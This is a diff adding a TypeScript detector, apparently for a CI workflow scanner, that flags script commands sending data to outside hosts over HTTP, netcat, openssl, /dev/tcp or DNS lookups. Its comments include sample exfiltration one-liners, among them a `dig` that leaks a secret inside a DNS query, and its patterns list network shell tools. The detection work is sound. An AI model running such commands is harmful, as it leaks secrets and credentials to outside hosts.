@@ -1,0 +1,106 @@
+import { addressAt, addressIn, isGitHub, isLocal, UNKNOWN_HOST } from "../shell/address.ts";
+import { printable } from "../printable.ts";
+import { requestOf } from "../shell/http-request.ts";
+import type { Argument } from "../shell/program.ts";
+import { SUBSTITUTED } from "../shell/lists.ts";
+import type { ScriptCommand } from "./step-script.ts";
+
+/** One command that sends data to a host. */
+export interface Sending {
+  /** In lower case, `the host in secrets.X`, or an unknown one. */
+  readonly host: string;
+  readonly row: number;
+  /** Whether it sends without a body: then only what it says of a secret makes it one. */
+  readonly isQuery: boolean;
+  /** The texts that reach the host, its address among them, as they were written. */
+  readonly sent: readonly string[];
+  /** What its address is made of, where only the run knows it; "" else. */
+  readonly unknown: string;
+}
+
+/**
+ * What a command sends to another host, null for nothing: an HTTP request, a connection by `nc`,
+ * `openssl` or `/dev/tcp`, or a name to look up that is made of other text. GitHub's own hosts, the
+ * machine itself and a job's services count as nothing.
+ */
+export function sendingOf(command: ScriptCommand): Sending | null {
+  const found = requestSent(command) ?? connection(command) ?? lookUp(command);
+  if (!found || !isElsewhere(found.host)) return null;
+  const { address, ...sending } = found;
+  const isKnown = found.host !== UNKNOWN_HOST;
+  return { ...sending, unknown: isKnown ? "" : (command.written[address?.word ?? -1] ?? "-") };
+}
+
+/** A sending, and the word that says where to. */
+interface Found extends Omit<Sending, "unknown"> {
+  readonly address: Argument | null;
+}
+
+function isElsewhere(host: string): boolean {
+  return host === UNKNOWN_HOST || host.includes(" ") || (!isGitHub(host) && !isLocal(host));
+}
+
+function requestSent(command: ScriptCommand): Found | null {
+  const request = requestOf(command);
+  if (!request) return null;
+  const { address, url, hasBody, sent } = request;
+  const host = address?.host ?? secretHost(url) ?? UNKNOWN_HOST;
+  return { host, isQuery: !hasBody, address: url, ...sentBy(command, sent) };
+}
+
+// `nc -w 3 host 4444`, `openssl s_client -connect host:443`, `cat file > /dev/tcp/host/80`
+function connection(command: ScriptCommand): Found | null {
+  const { name, args, targets } = command;
+  const device = targets.find((target) => /^\/dev\/(?:tcp|udp)\//.test(target));
+  const host =
+    device?.split("/")[3] ?? (name === "openssl" ? connected(args) : netcatHost(command));
+  if (host === undefined || host === "") return null;
+  return { host: hostName(host), isQuery: false, address: null, ...sentBy(command, args) };
+}
+
+const NETCAT = /^(?:nc|ncat|netcat|telnet|socat)$/;
+
+// Listening and looking whether a port is open send nothing.
+function netcatHost({ name, args }: ScriptCommand): string | undefined {
+  if (!NETCAT.test(name) || args.some(({ text }) => /^-[a-z]*[lz]/.test(text))) return undefined;
+  if (name === "socat") {
+    return args
+      .map(({ text }) => /^(?:tcp4?|openssl|udp4?):([^:]+)/i.exec(text)?.[1])
+      .find(Boolean);
+  }
+  return args.find(({ text }, index) => {
+    const isValue = /^-[a-z]*[ipqswxX]$/.test(args[index - 1]?.text ?? "");
+    return !text.startsWith("-") && !isValue;
+  })?.text;
+}
+
+function connected(args: readonly Argument[]): string | undefined {
+  return args[args.findIndex(({ text }) => text === "-connect") + 1 || args.length]?.text;
+}
+
+// `dig $(cat secret).example.com`, `nslookup "$TOKEN.example.com"`
+function lookUp(command: ScriptCommand): Found | null {
+  if (!/^(?:dig|nslookup|host|drill|ping|resolvectl|resolve-dnsname)$/.test(command.name))
+    return null;
+  const made = command.args.find(({ word }) => /\$/.test(command.written[word] ?? ""));
+  const host = made ? hostName(made.text) : "";
+  if (!made || !host.startsWith("*")) return null;
+  return { host, isQuery: false, address: made, ...sentBy(command, [made]) };
+}
+
+function hostName(text: string): string {
+  return (addressIn(text) ?? addressAt(text)).host ?? secretHost({ text, word: 0 }) ?? UNKNOWN_HOST;
+}
+
+/** Where a secret is the whole address, whoever may set secrets has chosen the host. */
+function secretHost(url: Argument | null): string | undefined {
+  const secret = /^(?:\w+:\/\/)?\$\{\{secrets\.([\w-]+)\}\}/.exec(url?.text ?? "")?.[1];
+  return secret && printable(`the host in secrets.${secret.toUpperCase()}`);
+}
+
+function sentBy(
+  { row, written }: ScriptCommand,
+  sent: readonly Argument[],
+): Pick<Sending, "row" | "sent"> {
+  return { row, sent: sent.map(({ word }) => written[word] ?? SUBSTITUTED) };
+}
